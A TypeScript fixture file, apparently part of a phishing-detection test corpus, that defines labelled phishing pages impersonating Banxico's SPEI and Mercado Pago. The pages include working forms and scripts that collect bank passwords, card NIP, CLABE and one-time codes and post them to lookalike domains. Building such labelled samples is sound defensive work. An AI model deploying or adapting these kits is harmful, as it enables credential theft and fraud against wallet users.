import { htmlRoute, type Entry } from '../entry.js';
import { doc, exfil, jsonRoute, jsRoute, okRoute, pngRoute } from '../parts/zd-kit.js';

/**
 * Instant-payment and wallet kits: fake Pix refunds, Bizum "devoluciones", held SPEI transfers, Nequi,
 * Yape, MB Way and Mercado Pago account pages that take the wallet PIN, OTP or card.
 */

export const entries: Entry[] = [
  {
    id: 'zd-wallet-spei-transferencia-retenida',
    label: 'phishing',
    kind: 'wallet-kit',
    url: 'https://cep-banxico.spei-consulta.mx/transferencia/retenida',
    body: doc({
      lang: 'es-MX',
      title: 'SPEI · Comprobante Electrónico de Pago',
      css: `body{margin:0;font-family:Arial;background:#f5f5f0}.h{background:#691c32;color:#fff;padding:16px 30px}.c{max-width:560px;margin:30px auto;background:#fff;padding:28px;border:1px solid #ddd}
table{width:100%;font-size:14px}td{padding:6px;border-bottom:1px solid #eee}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #aaa}button{background:#691c32;color:#fff;border:0;padding:12px 26px}`,
      body: `<div class="h"><b>BANXICO</b> · Sistema de Pagos Electrónicos Interbancarios</div>
<div class="c"><h3>Transferencia retenida</h3><table><tr><td>Clave de rastreo</td><td>MBAN01002511270048291</td></tr><tr><td>Monto</td><td>$12,800.00 MXN</td></tr><tr><td>Estatus</td><td style="color:#b00">RETENIDA – validación de beneficiario</td></tr></table>
<p>Para liberar la transferencia, el beneficiario debe confirmar su banca electrónica.</p>
<form id="sp"><label>CLABE interbancaria (18 dígitos)</label><input name="clabe" maxlength="18"><label>Banco</label><input name="banco"><label>Usuario de banca en línea</label><input name="user"><label>Contraseña</label><input name="pass" type="password"><label>NIP de tarjeta</label><input name="nip" type="password" maxlength="4"><button>Liberar transferencia</button><p id="wait" style="display:none">Consultando…</p></form></div>
${exfil({ form: '#sp', endpoint: '/transferencia/liberar', next: 'https://www.banxico.org.mx/cep/' })}`,
    }),
    routes: { 'cep-banxico.spei-consulta.mx/transferencia/liberar': okRoute() },
  },
  {
    id: 'zd-wallet-mercadopago-ar-cuenta',
    label: 'phishing',
    kind: 'wallet-kit',
    url: 'https://mercadopago.com.ar.cuenta-verificar.site/jms/ar/lgz/login',
    body: doc({
      lang: 'es-AR',
      title: 'Mercado Pago',
      css: `body{margin:0;font-family:'Proxima Nova',Arial;background:#ededed}.h{background:#fff159;padding:14px 30px;font-weight:bold;color:#2d3277}.c{max-width:420px;margin:40px auto;background:#fff;padding:30px;border-radius:6px}
input{width:100%;padding:12px;margin:6px 0 14px;border:1px solid #bbb;border-radius:6px}button{width:100%;padding:13px;background:#009ee3;color:#fff;border:0;border-radius:6px}`,
      body: `<div class="h">mercado pago</div><div class="c" id="c">
<h2 style="font-weight:400">Ingresá tu e-mail, teléfono o usuario de Mercado Pago</h2>
<form id="mp1"><input name="user" autocomplete="username"><button>Continuar</button></form></div>
<script>
document.getElementById('mp1').onsubmit=function(e){e.preventDefault();var u=this.user.value;
document.getElementById('c').innerHTML='<p>'+u.replace(/</g,'')+'</p><h2 style="font-weight:400">Ingresá tu contraseña</h2><form id="mp2"><input type="password" name="pass"><input name="code" placeholder="Código que te enviamos por e-mail o SMS"><button>Iniciar sesión</button></form><p id="wait" style="display:none">Cargando…</p>';
document.getElementById('mp2').onsubmit=function(e){e.preventDefault();document.getElementById('wait').style.display='block';
fetch('/jms/ar/lgz/api/session',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({u:u,p:this.pass.value,c:this.code.value})}).finally(function(){location.href='https://www.mercadopago.com.ar/'})}};
</script>`,
    }),
    routes: { 'mercadopago.com.ar.cuenta-verificar.site/jms/ar/lgz/api/session': okRoute() },
  },
];
